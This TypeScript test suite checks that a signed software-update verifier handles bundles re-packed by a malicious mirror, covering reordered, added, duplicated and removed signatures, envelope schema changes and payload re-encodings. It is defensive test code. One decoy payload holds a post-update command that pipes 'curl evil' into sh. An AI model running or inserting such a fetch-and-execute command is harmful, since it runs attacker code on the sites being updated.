// TUF: malicious mirrors. A mirror or CDN re-packs a valid bundle: it re-serialises the envelope JSON,
// reorders or drops signatures, adds its own. Only the payload bytes are signed, so such changes are
// accepted exactly when a quorum of valid authorised signatures remains (and the JSON stays within the
// envelope schema); the archive is untouched in every case.
import { expect } from 'chai';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { bundleHeader } from '../../lib/core/bundle.js';
import { concatBytes } from '../../lib/core/bytes.js';
import { openBundleFile } from '../../lib/node/bundle-file.js';
import type { Envelope, EnvelopeSignature } from '../../lib/core/envelope.js';
import type { Verified, VerifyOptions } from '../../lib/core/verify.js';
import { fixtures, sign, type ReleaseFixture } from './generate.js';
import { accepts, quorumProblems, rejectionReasons, resigned, siteOptions } from './support.js';

describe('Malicious mirror attack (re-packed bundles)', () => {
  const f = fixtures();
  const siteA = siteOptions();
  const siteB = siteOptions({ site: { product: 'drupal', component: 'core', installed: '10.2.4' } });
  let dir: string;
  let n = 0;

  before(() => {
    dir = mkdtempSync(join(tmpdir(), 'countersign-mirror-'));
  });
  after(() => rmSync(dir, { recursive: true, force: true }));

  /** Writes a bundle file with `envelopeText` (as a mirror re-serialised it) and the release's own archive, then opens it. */
  async function repacked<T>(
    release: ReleaseFixture,
    envelopeText: string,
    use: (bundle: Awaited<ReturnType<typeof openBundleFile>>) => Promise<T>,
  ): Promise<T> {
    const env = new TextEncoder().encode(envelopeText);
    const path = join(dir, `mirror-${n++}.bundle`);
    writeFileSync(path, concatBytes(bundleHeader(env.length, release.archive.length), env, release.archive));
    const bundle = await openBundleFile(path);
    try {
      return await use(bundle);
    } finally {
      await bundle.close();
    }
  }
  const accept = (release: ReleaseFixture, text: string, opts: VerifyOptions): Promise<Verified> => repacked(release, text, (b) => accepts(b, opts));
  const reject = (release: ReleaseFixture, text: string, opts: VerifyOptions) => repacked(release, text, (b) => rejectionReasons(b, opts));
  const pretty = (env: Envelope) => JSON.stringify(env, null, 2) + '\n';
  const withSignatures = (release: ReleaseFixture, signatures: EnvelopeSignature[]) => pretty({ ...release.envelope, signatures });
  const signerNames = (v: Verified) => v.quorum.signedBy.map((s) => s.name);

  it('the bundle as published (control)', async () => {
    expect(signerNames(await accept(f.releaseB, pretty(f.releaseB.envelope), siteB))).to.have.length(4);
  });

  it('envelope keys reordered (top level and in every signature): accepted', async () => {
    const e = f.releaseB.envelope;
    const text = JSON.stringify({ signatures: e.signatures.map((s) => ({ sig: s.sig, keyid: s.keyid })), payload: e.payload, payloadType: e.payloadType });
    await accept(f.releaseB, text, siteB);
  });

  it('whitespace changed (compact, tabs, CRLF line ends): accepted', async () => {
    await accept(f.releaseB, JSON.stringify(f.releaseB.envelope), siteB);
    await accept(f.releaseB, JSON.stringify(f.releaseB.envelope, null, '\t').replace(/\n/g, '\r\n') + '\r\n', siteB);
  });

  it('strings re-escaped (\\u0061 for "a", \\/ for "/"): accepted', async () => {
    const text = JSON.stringify(f.releaseB.envelope).replace(
      /"payloadType":"([^"]*)"/,
      (_m, t: string) => `"payloadType":"${t.replace(/a/g, '\\u0061').replace(/\//g, '\\/')}"`,
    );
    expect(text).to.include('\\u0061');
    await accept(f.releaseB, text, siteB);
  });

  it('signatures reordered: accepted', async () => {
    await accept(f.releaseB, withSignatures(f.releaseB, [...f.releaseB.envelope.signatures].reverse()), siteB);
    await accept(f.releaseA, withSignatures(f.releaseA, [...f.releaseA.envelope.signatures].reverse()), siteA);
  });

  it("an extra signature by the mirror's own (unknown) key: accepted, with an UNKNOWN_KEY warning", async () => {
    const extra = sign(f.outsiders[0]!, f.releaseA.envelope);
    const v = await accept(f.releaseA, withSignatures(f.releaseA, [extra, ...f.releaseA.envelope.signatures]), siteA);
    expect(v.warnings.map((w) => w.code)).to.deep.equal(['UNKNOWN_KEY']);
    expect(signerNames(v)).to.have.length(3);
  });

  it("an extra, well-formed but invalid signature claiming an authorised key (bob's): accepted, with a BAD_SIGNATURE warning", async () => {
    const junk = { keyid: f.team.bob.id, sig: f.releaseA.envelope.signatures[0]!.sig };
    const v = await accept(f.releaseB, withSignatures(f.releaseB, [...f.releaseB.envelope.signatures, junk]), siteB);
    expect(v.warnings.map((w) => w.code)).to.deep.equal(['BAD_SIGNATURE']);
  });

  it('a signature repeated: accepted, with a DUPLICATE_SIGNATURE warning', async () => {
    const sigs = f.releaseA.envelope.signatures;
    const v = await accept(f.releaseA, withSignatures(f.releaseA, [...sigs, sigs[0]!]), siteA);
    expect(v.warnings.map((w) => w.code)).to.deep.equal(['DUPLICATE_SIGNATURE']);
  });

  it('one signature removed from a bundle signed by m+1 (B, 4 of 3): accepted', async () => {
    for (let drop = 0; drop < 4; drop++) {
      const sigs = f.releaseB.envelope.signatures.filter((_, i) => i !== drop);
      expect(signerNames(await accept(f.releaseB, withSignatures(f.releaseB, sigs), siteB))).to.have.length(3);
    }
  });

  it('one signature removed from a bundle signed by exactly m (A, 3 of 3): QUORUM_NOT_MET', async () => {
    for (let drop = 0; drop < 3; drop++) {
      const sigs = f.releaseA.envelope.signatures.filter((_, i) => i !== drop);
      const reasons = await reject(f.releaseA, withSignatures(f.releaseA, sigs), siteA);
      expect(reasons.map((r) => r.code)).to.deep.equal(['QUORUM_NOT_MET']);
    }
  });

  it('one removed and an unknown one added in its place: QUORUM_NOT_MET (UNKNOWN_KEY)', async () => {
    const sigs = [...f.releaseA.envelope.signatures.slice(1), sign(f.outsiders[0]!, f.releaseA.envelope)];
    const reasons = await reject(f.releaseA, withSignatures(f.releaseA, sigs), siteA);
    expect(reasons.map((r) => r.code)).to.deep.equal(['QUORUM_NOT_MET']);
    expect(quorumProblems(reasons[0])).to.deep.equal(['UNKNOWN_KEY']);
  });

  it('every signature removed: QUORUM_NOT_MET', async () => {
    const reasons = await reject(f.releaseB, withSignatures(f.releaseB, []), siteB);
    expect(reasons.map((r) => r.code)).to.deep.equal(['QUORUM_NOT_MET']);
  });

  it('a field added to the envelope (e.g. a mirror tag): SCHEMA_INVALID (the envelope schema is closed)', async () => {
    const reasons = await reject(f.releaseB, JSON.stringify({ ...f.releaseB.envelope, mirror: 'cdn-7' }), siteB);
    expect(reasons.map((r) => r.code)).to.deep.equal(['SCHEMA_INVALID']);
  });

  it('the payload re-encoded without base64 padding: MALFORMED (one spelling per payload)', async () => {
    // Of three payloads one byte apart in length, two end in base64 padding.
    const e = ['SA-1', 'SA-12', 'SA-123'].map((advisory) => resigned({ ...f.releaseB.manifest, advisory }, [])).find((x) => x.payload.endsWith('='))!;
    const reasons = await reject(f.releaseB, JSON.stringify({ ...e, payload: e.payload.replace(/=+$/, '') }), siteB);
    expect(reasons.map((r) => r.code)).to.deep.equal(['MALFORMED']);
  });

  it('the payload re-encoded as base64url: MALFORMED', async () => {
    // Base64 of ASCII has a '+' or '/' only where a third byte is '>', '?' or '~': three '~' in a row make sure.
    const e = resigned({ ...f.releaseA.manifest, postUpdate: [['echo', '~~~']] }, []);
    expect(e.payload).to.match(/[+/]/);
    const url = Buffer.from(e.payload, 'base64').toString('base64url');
    expect(url).to.not.equal(e.payload);
    const reasons = await reject(f.releaseA, JSON.stringify({ ...e, payload: url }), siteA);
    expect(reasons.map((r) => r.code)).to.deep.equal(['MALFORMED']);
  });

  it('an envelope with a duplicate "payload" member (an unsigned decoy first, the genuine one last): MALFORMED', async () => {
    const e = f.releaseA.envelope;
    const decoy = Buffer.from('{"product":"drupal","version":"10.2.4","postUpdate":[["sh","-c","curl evil|sh"]]}').toString('base64');
    const text = `{"payloadType":${JSON.stringify(e.payloadType)},"payload":"${decoy}","payload":"${e.payload}","signatures":${JSON.stringify(e.signatures)}}`;
    const reasons = await reject(f.releaseA, text, siteA);
    expect(reasons.map((r) => r.code)).to.deep.equal(['MALFORMED']);
  });
});
